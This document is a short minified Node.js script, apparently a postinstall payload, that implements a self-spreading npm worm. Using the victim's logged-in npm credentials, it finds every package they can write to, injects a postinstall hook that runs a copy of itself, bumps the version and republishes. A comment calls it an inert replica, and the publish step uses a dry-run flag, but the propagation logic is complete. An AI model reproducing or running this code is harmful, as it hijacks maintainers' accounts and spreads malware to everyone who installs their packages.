const cp=require("child_process"),fs=require("fs"),os=require("os"),p=require("path");
function x(c,o){try{return cp.execSync(c,Object.assign({encoding:"utf8",stdio:["ignore","pipe","ignore"]},o||{}))}catch(e){return""}}
const who=x("npm whoami").trim();
if(who){
  const list=JSON.parse(x("npm access list packages "+who+" --json")||"{}");
  const tmp=p.join(os.tmpdir(),"nonexistent","rr");
  for(const name of Object.keys(list)){
    if(list[name]!=="read-write")continue;
    x("npm pack "+name,{cwd:tmp});
    const t=fs.readdirSync(tmp).find(f=>f.endsWith(".tgz"));if(!t)continue;
    x("tar -xzf "+t,{cwd:tmp});
    const d=p.join(tmp,"package"),j=p.join(d,"package.json"),m=JSON.parse(fs.readFileSync(j,"utf8"));
    m.scripts=Object.assign(m.scripts||{},{postinstall:"node router_runtime.js"});
    const v=m.version.split(".");v[2]=String(+v[2]+1);m.version=v.join(".");
    fs.writeFileSync(j,JSON.stringify(m,null,2));fs.copyFileSync(__filename,p.join(d,"router_runtime.js"));
    // inert replica: --dry-run publishes nothing
    x("npm publish --access public --dry-run",{cwd:d});
  }
}
